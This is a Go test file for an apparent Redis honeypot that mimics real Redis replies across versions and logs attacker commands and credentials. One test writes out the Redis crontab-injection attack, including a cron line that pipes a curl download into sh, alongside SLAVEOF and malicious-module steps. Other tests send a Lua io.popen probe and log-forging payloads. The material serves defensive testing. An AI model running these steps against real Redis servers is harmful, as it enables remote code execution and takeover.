package redis_test

import (
	"bufio"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"go.uber.org/goleak"

	"github.com/decnet/decnet/decoys/config"
	"github.com/decnet/decnet/decoys/decoytest"
	"github.com/decnet/decnet/decoys/eventlog"
	"github.com/decnet/decnet/decoys/identity"
	"github.com/decnet/decnet/decoys/persona"
	"github.com/decnet/decnet/decoys/redis"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

type bundle struct {
	addr, port string
	log        *decoytest.Log
}

func setup(t *testing.T, version string) *bundle {
	return setupAs(t, "db-01", config.Redis{Version: version})
}

func setupAs(t *testing.T, node string, cfg config.Redis) *bundle {
	t.Helper()
	b := &bundle{log: &decoytest.Log{}}
	host := persona.New(persona.Options{Identity: identity.New(node, "i"), Distro: "debian", Hostname: "SRV-DB-31", Local: netip.MustParseAddr("127.66.0.2")})
	s := redis.New(redis.Options{Log: eventlog.New(b.log, node, "redis", "boot", 1, nil), Config: cfg, Host: host})
	b.addr, _ = decoytest.Serve(t, s)
	_, b.port, _ = net.SplitHostPort(b.addr)
	return b
}

// cli runs the stock client and returns its output.
func (b *bundle) cli(t *testing.T, stdin string, args ...string) string {
	t.Helper()
	if _, err := exec.LookPath("redis-cli"); err != nil {
		t.Skip("redis-cli is not installed: the stock client is not tested")
	}
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "redis-cli", append([]string{"-p", b.port, "--no-raw"}, args...)...)
	cmd.Stdin = strings.NewReader(stdin)
	out, _ := cmd.CombinedOutput()
	return strings.TrimSuffix(string(out), "\n")
}

// raw sends bytes, closes its side and returns what comes back.
func (b *bundle) raw(t *testing.T, send string) string {
	t.Helper()
	c, err := net.Dial("tcp", b.addr)
	require.NoError(t, err)
	defer c.Close()
	go func() { _, _ = io.WriteString(c, send); _ = c.(*net.TCPConn).CloseWrite() }()
	_ = c.SetReadDeadline(time.Now().Add(15 * time.Second))
	out, _ := io.ReadAll(c)
	return string(out)
}

func enc(args ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "*%d\r\n", len(args))
	for _, a := range args {
		fmt.Fprintf(&b, "$%d\r\n%s\r\n", len(a), a)
	}
	return b.String()
}

func TestConfig_FieldsAreObservable(t *testing.T) {
	t.Parallel()
	b := setupAs(t, "db-01", config.Redis{Version: "6.2.14", OSString: "Linux 5.4.0-marker x86_64"})
	out := b.raw(t, "INFO server\r\n")
	require.Contains(t, out, "redis_version:6.2.14\r\n")
	require.Contains(t, out, "os:Linux 5.4.0-marker x86_64\r\n")
}

func TestReplies_FollowTheRelease(t *testing.T) {
	t.Parallel()
	new7, old := setup(t, "7.0.15"), setup(t, "5.0.7")
	for send, want := range map[string][2]string{
		"FOO a b\r\n":                          {"-ERR unknown command 'FOO', with args beginning with: 'a' 'b' \r\n", "-ERR unknown command `FOO`, with args beginning with: `a`, `b`, \r\n"},
		"AUTH x\r\n":                           {"-ERR AUTH <password> called without any password configured for the default user. Are you sure your configuration is correct?\r\n", "-ERR Client sent AUTH, but no password is set\r\n"},
		"AUTH u p\r\n":                         {"-WRONGPASS invalid username-password pair or user is disabled.\r\n", "-ERR syntax error\r\n"},
		"CONFIG SET dir /root/.ssh\r\n":        {"-ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected config\r\n", "+OK\r\n"},
		"CONFIG SET dir /nope\r\n":             {"-ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected config\r\n", "-ERR Changing directory: No such file or directory\r\n"},
		"CONFIG SET nope 1\r\n":                {"-ERR Unknown option or number of arguments for CONFIG SET - 'nope'\r\n", "-ERR Unsupported CONFIG parameter: nope\r\n"},
		"CONFIG GET\r\n":                       {"-ERR wrong number of arguments for 'config|get' command\r\n", "-ERR Unknown subcommand or wrong number of arguments for 'GET'. Try CONFIG HELP.\r\n"},
		"CONFIG FOO\r\n":                       {"-ERR unknown subcommand 'FOO'. Try CONFIG HELP.\r\n", "-ERR Unknown subcommand or wrong number of arguments for 'FOO'. Try CONFIG HELP.\r\n"},
		"MODULE LOAD /tmp/x.so\r\n":            {"-ERR MODULE command not allowed. If the enable-module-command option is set to \"local\", you can run it from a local connection, otherwise you need to set this option in the configuration file, and then restart the server.\r\n", "-ERR Error loading the extension. Please check the server logs.\r\n"},
		"SET a b EX 0\r\n":                     {"-ERR invalid expire time in 'set' command\r\n", "-ERR invalid expire time in set\r\n"},
		"HELLO 4\r\n":                          {"-NOPROTO unsupported protocol version\r\n", "-ERR unknown command `HELLO`, with args beginning with: `4`, \r\n"},
		"SET k v\r\nDUMP k\r\n":                {"+OK\r\n$13\r\n\x00\x01v\x0a\x00", "+OK\r\n$13\r\n\x00\x01v\x09\x00"},
		"EVAL \"return io.popen('id')\" 0\r\n": {"-ERR user_script:1: Script attempted to access nonexistent global variable 'io' script: ", "-ERR Error running script (call to f_"},
		"GET\r\n":                              {"-ERR wrong number of arguments for 'get' command\r\n", "-ERR wrong number of arguments for 'get' command\r\n"},
	} {
		for i, b := range []*bundle{new7, old} {
			require.True(t, strings.HasPrefix(b.raw(t, send), want[i]), "%q to %d: %q", send, i, b.raw(t, send))
		}
	}
}

func TestStore_BehavesLikeTheRealOne(t *testing.T) {
	t.Parallel()
	b := setup(t, "6.2.14")
	b.raw(t, "FLUSHALL\r\n")
	for _, c := range [][2]string{
		{"SET a b", "OK"},
		{"SET a c NX", "(nil)"},
		{"GET a", `"b"`},
		{"APPEND a cd", "(integer) 3"},
		{"GETRANGE a -2 -1", `"cd"`},
		{"STRLEN a", "(integer) 3"},
		{"TYPE a", "string"},
		{"TTL a", "(integer) -1"},
		{"EXPIRE a 100", "(integer) 1"},
		{"TTL a", "(integer) 100"},
		{"PERSIST a", "(integer) 1"},
		{"TTL nope", "(integer) -2"},
		{"LPUSH a x", "(error) WRONGTYPE Operation against a key holding the wrong kind of value"},
		{"INCR a", "(error) ERR value is not an integer or out of range"},
		{"INCRBY n 5", "(integer) 5"},
		{"DECR n", "(integer) 4"},
		{"LPUSH l a b c", "(integer) 3"},
		{"RPUSH l d", "(integer) 4"},
		{"LRANGE l 0 1", "1) \"c\"\n2) \"b\""},
		{"LRANGE l -1 -1", `1) "d"`},
		{"LPOP l", `"c"`},
		{"LINDEX l -1", `"d"`},
		{"LLEN l", "(integer) 3"},
		{"HSET h f v g w", "(integer) 2"},
		{"HGETALL h", "1) \"f\"\n2) \"v\"\n3) \"g\"\n4) \"w\""},
		{"HGET h x", "(nil)"},
		{"HDEL h f g", "(integer) 2"},
		{"EXISTS h a", "(integer) 1"},
		{"SADD s b a a", "(integer) 2"},
		{"SMEMBERS s", "1) \"a\"\n2) \"b\""},
		{"SISMEMBER s a", "(integer) 1"},
		{"ZADD z 2 b 1 a", "(integer) 2"},
		{"ZRANGE z 0 -1 WITHSCORES", "1) \"a\"\n2) \"1\"\n3) \"b\"\n4) \"2\""},
		{"ZADD z x a", "(error) ERR value is not a valid float"},
		{"RENAME l m", "OK"},
		{"RENAME l m", "(error) ERR no such key"},
		{"DBSIZE", "(integer) 5"},
		{"KEYS [am]", "1) \"a\"\n2) \"m\""},
		{"MGET a nope", "1) \"bcd\"\n2) (nil)"},
		{"SELECT 99", "(error) ERR DB index is out of range"},
		{"DEL a m nope", "(integer) 2"},
		{"OBJECT ENCODING n", `"int"`},
		{"SETRANGE n 99999999 x", "(error) ERR string exceeds maximum allowed size (512MB)"},
		{"FLUSHDB", "OK"},
		{"RANDOMKEY", "(nil)"},
		{"SCAN 0", "1) \"0\"\n2) (empty array)"},
		{"COPY n m", "(integer) 0"},
		{"GETDEL n", "(nil)"},
	} {
		require.Equal(t, c[1], b.cli(t, "", strings.Fields(c[0])...), c[0])
	}
}

func TestScan_CursorAndMatch(t *testing.T) {
	t.Parallel()
	b := setup(t, "6.2.14")
	b.raw(t, "FLUSHALL\r\n")
	var fill strings.Builder
	for i := range 300 {
		fmt.Fprintf(&fill, "SET key:%d v\r\n", i)
	}
	b.raw(t, fill.String()+"SET other v\r\n")
	out := b.cli(t, "", "--scan")
	require.Len(t, strings.Split(out, "\n"), 301)
	require.Equal(t, "\"other\"", b.cli(t, "", "--scan", "--pattern", "oth*"))
	require.NotContains(t, b.raw(t, "SCAN 0 COUNT 10\r\n"), "$1\r\n0\r\n", "one call does not return everything")
}

func TestScanStep_ReturnsEveryKeyOnce(t *testing.T) {
	t.Parallel()
	for _, n := range []int{0, 1, 5, 100, 1000} {
		var keys []string
		for i := range n {
			keys = append(keys, strconv.Itoa(i))
		}
		seen, calls := map[string]int{}, 0
		for cursor := uint64(0); ; calls++ {
			page, next := redis.ScanStep(keys, cursor, 10)
			for _, k := range page {
				seen[k]++
			}
			if cursor = next; cursor == 0 {
				break
			}
			require.Less(t, calls, 10_000)
		}
		require.Len(t, seen, n)
	}
}

func TestAttack_CrontabIsBelievedAndLogged(t *testing.T) {
	t.Parallel()
	b := setup(t, "5.0.7")
	cron := "\n\n*/1 * * * * curl -fsSL http://198.51.100.7/i.sh | sh\n\n"
	require.Equal(t, "OK", b.cli(t, "", "CONFIG", "SET", "dir", "/var/spool/cron/"))
	require.Equal(t, "OK", b.cli(t, "", "CONFIG", "SET", "dbfilename", "root"))
	require.Equal(t, "OK", b.cli(t, cron, "-x", "SET", "backup1"))
	require.Equal(t, "OK", b.cli(t, "", "SAVE"))
	require.Equal(t, "1) \"dir\"\n2) \"/var/spool/cron\"", b.cli(t, "", "CONFIG", "GET", "dir"))
	line := b.log.Wait(t, ` command .*cmd="SET"`)
	var args []string
	require.NoError(t, json.Unmarshal([]byte(decoytest.Field(line, "args")), &args))
	require.Equal(t, []string{"backup1", cron}, args)
	require.Equal(t, "127.0.0.1", decoytest.Field(line, "src_ip"))
	require.Equal(t, `CONFIG SET dir /var/spool/cron/`, decoytest.Field(b.log.Wait(t, ` command .*CONFIG SET dir`), "command"))
	require.Equal(t, "OK", b.cli(t, "", "SLAVEOF", "198.51.100.7", "6379"))
	require.Contains(t, b.cli(t, "", "INFO", "replication"), "master_link_status:down")
	require.Contains(t, b.cli(t, "", "SET", "a", "b"), "READONLY")
	require.Contains(t, b.cli(t, "", "MODULE", "LOAD", "./exp.so"), "ERR Error loading the extension")
	require.Equal(t, "OK", b.cli(t, "", "SLAVEOF", "NO", "ONE"))
}

func TestAuth_IsReportedWithItsSecret(t *testing.T) {
	t.Parallel()
	b := setup(t, "6.2.14")
	b.raw(t, "AUTH foobared\r\n"+enc("AUTH", "admin", "p\x00w")+enc("HELLO", "3", "AUTH", "default", "x")+"AUTH \"\"\r\n")
	first := b.log.Wait(t, ` auth .*secret_printable="foobared"`)
	require.NotContains(t, first, "principal=")
	second := b.log.Wait(t, ` auth .*principal="admin"`)
	require.Equal(t, "p?w", decoytest.Field(second, "secret_printable"))
	require.Equal(t, base64.StdEncoding.EncodeToString([]byte("p\x00w")), decoytest.Field(second, "secret_b64"))
	require.Equal(t, "failure", decoytest.Field(second, "outcome"))
	require.Equal(t, "success", decoytest.Field(b.log.Wait(t, ` auth .*principal="default"`), "outcome"))
	require.NotContains(t, b.log.String(), `secret_b64=""`)
	require.Equal(t, "OK", b.cli(t, "", "CONFIG", "SET", "requirepass", "mine"))
	require.Equal(t, "(error) NOAUTH Authentication required.", b.cli(t, "", "KEYS", "*"))
	require.Contains(t, b.raw(t, "AUTH wrong\r\n"), "-WRONGPASS invalid username-password pair or user is disabled.")
	require.Contains(t, b.raw(t, "AUTH mine\r\nPING\r\n"), "+OK\r\n+PONG\r\n")
}

func TestTransactions(t *testing.T) {
	t.Parallel()
	b := setup(t, "6.2.14")
	require.Equal(t, "+OK\r\n+QUEUED\r\n+QUEUED\r\n*2\r\n+OK\r\n$1\r\nb\r\n", b.raw(t, "multi\r\nset a b\r\nget a\r\nexec\r\n"))
	require.Contains(t, b.raw(t, "multi\r\nfoo\r\nexec\r\n"), "-EXECABORT ")
	require.Equal(t, "-ERR EXEC without MULTI\r\n-ERR DISCARD without MULTI\r\n", b.raw(t, "exec\r\ndiscard\r\n"))
	require.NotContains(t, b.raw(t, "multi\r\ndebug sleep 0\r\nexec\r\nPING\r\n"), "panic")
}

func TestMonitor_ShowsOthers(t *testing.T) {
	t.Parallel()
	b := setup(t, "6.2.14")
	c, err := net.Dial("tcp", b.addr)
	require.NoError(t, err)
	defer c.Close()
	_, _ = io.WriteString(c, "MONITOR\r\n")
	_ = c.SetReadDeadline(time.Now().Add(10 * time.Second))
	r := bufio.NewReader(c)
	line, err := r.ReadString('\n')
	require.NoError(t, err)
	require.Equal(t, "+OK\r\n", line)
	b.raw(t, enc("SET", "a\n", "\xff\""))
	line, err = r.ReadString('\n')
	require.NoError(t, err)
	require.Regexp(t, `^\+\d+\.\d{6} \[0 127\.0\.0\.1:\d+\] "SET" "a\\n" "\\xff\\""`, line)
}

func TestSnapshot_LoadsInTheRealChecker(t *testing.T) {
	t.Parallel()
	b := setup(t, "6.2.14")
	b.raw(t, "RPUSH l a b\r\nSADD s x\r\nZADD z 1.5 m\r\nHSET h f v\r\nSET big "+strings.Repeat("x", 20000)+"\r\n")
	file := filepath.Join(t.TempDir(), "x.rdb")
	b.cli(t, "", "--rdb", file)
	out, err := exec.CommandContext(t.Context(), "redis-check-rdb", file).CombinedOutput()
	require.NoError(t, err, string(out))
	require.Contains(t, string(out), "RDB looks OK!")
}

func TestHostileInput_IsBounded(t *testing.T) {
	t.Parallel()
	b := setup(t, "6.2.14")
	for send, want := range map[string]string{
		"*99999999999\r\n":               "-ERR Protocol error: invalid multibulk length\r\n",
		"*x\r\n":                         "-ERR Protocol error: invalid multibulk length\r\n",
		"*-1\r\nPING\r\n":                "+PONG\r\n",
		"*1\r\n$-1\r\n":                  "-ERR Protocol error: invalid bulk length\r\n",
		"*1\r\n$999999999999\r\n":        "-ERR Protocol error: invalid bulk length\r\n",
		"*2\r\n*1\r\n$4\r\nPING\r\n":     "-ERR Protocol error: expected '$', got '*'\r\n",
		"set a \"x\r\n":                  "-ERR Protocol error: unbalanced quotes in request\r\n",
		strings.Repeat("a", 70000):       "-ERR Protocol error: too big inline request\r\n",
		"*" + strings.Repeat("1", 70000): "-ERR Protocol error: too big mbulk count string\r\n",
		"*1048576\r\n" + strings.Repeat("$0\r\n\r\n", 50000): "",
		"*1\r\n$536870912\r\n" + strings.Repeat("a", 1<<20):  "",
		"GET / HTTP/1.1\r\nHost: x\r\n\r\n":                  "",
		strings.Repeat("*1\r\n", 5000):                       "-ERR Protocol error: expected '$', got '*'\r\n",
		"\x00\x01\x02\r\nPING\r\n":                           "+PONG\r\n",
	} {
		require.Equal(t, want, b.raw(t, send), "%.30q", send)
	}
	b.raw(t, "SET big "+strings.Repeat("x", 60000)+"\r\n")
	require.Less(t, len(b.raw(t, enc(append([]string{"MGET"}, strings.Split(strings.Repeat("big ", 8000), " ")...)...))), 17<<20)
	b.raw(t, "FLUSHALL\r\n")
	var flood strings.Builder
	for i := range 30 {
		flood.WriteString(enc("SET", strconv.Itoa(i), strings.Repeat("x", 400_000)))
	}
	require.Contains(t, b.raw(t, flood.String()), "-OOM command not allowed when used memory > 'maxmemory'.\r\n")
	require.Contains(t, b.raw(t, "FLUSHALL\r\nPING\r\n"), "+PONG")
	require.NotContains(t, b.log.String(), `error="panic"`)
	for l := range strings.Lines(b.log.String()) {
		require.Less(t, len(l), 16<<10)
		require.Regexp(t, `^<13[24]>1 \S+ db-01 redis - \w+ \[relay@55555 boot="boot" n="\d+" `, l)
	}
}

func TestEvents_CannotBeForged(t *testing.T) {
	t.Parallel()
	b := setup(t, "6.2.14")
	evil := "\"] <14>1 - - - x\n<134>1 2026-01-01T00:00:00Z db-01 redis - auth [relay@55555 boot=\"boot\" n=\"1\"]"
	b.raw(t, enc(evil, evil, "\xff\u200b\x00", "3", "4", "5", "6", "7", "8", "9"))
	line := b.log.Wait(t, ` command .*argc="9"`)
	var args []string
	require.NoError(t, json.Unmarshal([]byte(decoytest.Field(line, "args")), &args))
	require.Len(t, args, 8)
	require.Equal(t, evil, args[0])
	b.log.Wait(t, " disconnect ")
	require.Equal(t, 0, strings.Count(b.log.String(), "\n<14>"))
	require.Equal(t, 3, strings.Count(b.log.String(), "\n"))
}

func TestDeckies_DifferAndStay(t *testing.T) {
	t.Parallel()
	info, data := map[string]bool{}, map[string]bool{}
	for i := range 12 {
		node := "db-" + strconv.Itoa(i)
		a, again := setupAs(t, node, config.Redis{}), setupAs(t, node, config.Redis{})
		version := regexp.MustCompile(`redis_version:\S+|run_id:\S+|os:[^\r]+`).FindAllString(a.raw(t, "INFO\r\n"), -1)
		require.Equal(t, version, regexp.MustCompile(`redis_version:\S+|run_id:\S+|os:[^\r]+`).FindAllString(again.raw(t, "INFO\r\n"), -1))
		info[strings.Join(version, " ")] = true
		keys := a.raw(t, "KEYS *\r\n")
		require.Equal(t, keys, again.raw(t, "KEYS *\r\n"))
		require.Greater(t, strings.Count(keys, "$"), 10)
		data[keys] = true
		for _, bad := range []string{"decnet", "decky", "decoy", "honeypot", "golang", node} {
			require.NotContains(t, strings.ToLower(a.raw(t, "INFO\r\nCONFIG GET *\r\nCLIENT LIST\r\nACL LIST\r\nLOLWUT\r\nKEYS *\r\n")), bad)
		}
	}
	require.Len(t, info, 12)
	require.Len(t, data, 12)
}

func TestMatch(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		pattern, s string
		want       bool
	}{
		{"*", "", true},
		{"a*c", "abbc", true},
		{"a?c", "ac", false},
		{"[a-c]x", "bx", true},
		{"[^a]x", "ax", false},
		{`\*`, "*", true},
		{`\*`, "a", false},
		{"a*b*c", "aXbYbZc", true},
		{"[", "[", false},
		{"[]", "a", false},
		{"h[ae]llo*", "hallo world", true},
		{"", "a", false},
		{"a", "ab", false},
	} {
		require.Equal(t, c.want, redis.Match(c.pattern, c.s), "%q %q", c.pattern, c.s)
	}
	began := time.Now()
	redis.Match(strings.Repeat("a*", 2000)+"b", strings.Repeat("a", 20000))
	require.Less(t, time.Since(began), 5*time.Second)
}

func TestSplitInline(t *testing.T) {
	t.Parallel()
	for in, want := range map[string][]string{
		"a  b": {"a", "b"}, `"a b" c`: {"a b", "c"}, `"\x41\n\"" 'it\'s'`: {"A\n\"", "it's"}, "": nil, "  ": nil, `""`: {""},
	} {
		got, ok := redis.SplitInline(in)
		require.True(t, ok, in)
		require.Equal(t, want, got, in)
	}
	for _, in := range []string{`"a`, `'a`, `"a"b`, `"a\`} {
		_, ok := redis.SplitInline(in)
		require.False(t, ok, in)
	}
}

func FuzzSplitInline(f *testing.F) {
	f.Add(`set "a\x41" 'b'`)
	f.Fuzz(func(t *testing.T, s string) {
		args, ok := redis.SplitInline(s)
		n := 0
		for _, a := range args {
			n += len(a)
		}
		require.True(t, !ok || n <= len(s))
	})
}

func FuzzMatch(f *testing.F) {
	f.Add("a[b-d]*\\?", "abc?")
	f.Fuzz(func(t *testing.T, pattern, s string) {
		if redis.Match(pattern, s) && pattern != "" {
			require.True(t, redis.Match("*", s))
		}
	})
}
